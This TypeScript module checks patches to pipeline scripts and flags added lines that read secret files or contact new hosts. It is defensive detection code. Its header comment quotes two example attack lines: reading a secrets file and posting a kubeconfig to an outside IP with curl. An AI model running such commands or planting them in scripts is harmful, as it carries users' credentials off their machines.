/**
 * What a patch makes a stage's script do that it did not do before. A stage runs with the user's
 * credentials beside it, so a line added to a script that reads a secret file or talks to a new
 * host could carry those credentials off the machine (`cat ../../talos/secrets.yaml`, `curl -d
 * @kubeconfig http://203.0.113.9`). Configuration values may change hosts (a wrong endpoint is a
 * real fault); scripts may not start reading secrets or reaching new hosts.
 */
import { matchesAnyGlob } from "../glob/index.ts";
import { DEFAULT_SECRET_GLOBS } from "../redaction/index.ts";
import type { FileChange, ParsedPatch } from "./parse.ts";

const SCRIPT_NAME = /(\.(sh|bash|zsh|ksh|bats)$|(^|\/)(Makefile|GNUmakefile|justfile|\.justfile)$)/i;

/** A file the guard reads as a script: a shell script or task file by name, or one with a shebang. */
export function isScriptPath(path: string, oldContent?: string): boolean {
  return SCRIPT_NAME.test(path) || oldContent?.startsWith("#!") === true;
}

/** Path-like words of a line: anything with a slash or a dot in it, quotes and punctuation peeled. */
function pathWords(line: string): string[] {
  return (line.match(/[A-Za-z0-9_.~@%+=:/-]+/g) ?? [])
    .map((word) => word.replace(/^[=:@]+|[:,;]+$/g, ""))
    .filter((word) => /[./]/.test(word) && !/^[a-z][a-z0-9+.-]*:\/\//i.test(word));
}

/** Hosts a line reaches: URLs (any scheme), `user@host:` (scp, rsync, ssh) and `ssh host`. */
function hostsOf(line: string): string[] {
  const hosts: string[] = [];
  for (const match of line.matchAll(/\b[a-z][a-z0-9+.-]*:\/\/(?:[^\s/@]*@)?(\[[^\]\s]+\]|[^\s/:?#'"]+)/gi)) {
    hosts.push((match[1] ?? "").toLowerCase());
  }
  for (const match of line.matchAll(/\b[\w.-]+@([\w.-]+\.[\w.-]+|\d{1,3}(?:\.\d{1,3}){3}):/g)) {
    hosts.push((match[1] ?? "").toLowerCase());
  }
  return hosts.filter((host) => host !== "" && host !== "localhost" && !host.startsWith("127."));
}

/**
 * Reasons a script change reaches further than the script did: a secret path it did not name
 * before, or a host it did not talk to before. `oldContents` holds the scripts' current text.
 */
export function reachProblems(
  patch: ParsedPatch,
  oldContents: Record<string, string>,
  secretGlobs: readonly string[],
): string[] {
  const globs = [...DEFAULT_SECRET_GLOBS, ...secretGlobs];
  const reasons: string[] = [];
  for (const change of patch.files) {
    const path = change.newPath ?? change.oldPath;
    const before = change.oldPath === null ? "" : (oldContents[change.oldPath] ?? "");
    if (path === null || !isScriptPath(path, before) || change.kind === "delete") {
      continue;
    }
    for (const line of addedLines(change)) {
      for (const word of pathWords(line)) {
        const bare = word.replace(/^(\.\.?\/)+/, "");
        if (matchesAnyGlob(bare, globs) && !before.includes(bare)) {
          reasons.push(
            `${path}: the added line "${line.trim()}" makes the stage read the secret file ${bare}; a stage's script may not start reading secrets`,
          );
        }
      }
      for (const host of hostsOf(line)) {
        if (!before.toLowerCase().includes(host)) {
          reasons.push(
            `${path}: the added line "${line.trim()}" makes the stage talk to ${host}, a host the script did not reach before; a human adds new destinations`,
          );
        }
      }
    }
  }
  return reasons;
}

function addedLines(change: FileChange): string[] {
  return change.hunks.flatMap((hunk) =>
    hunk.lines.filter((line) => line.kind === "+").map((line) => line.text),
  );
}
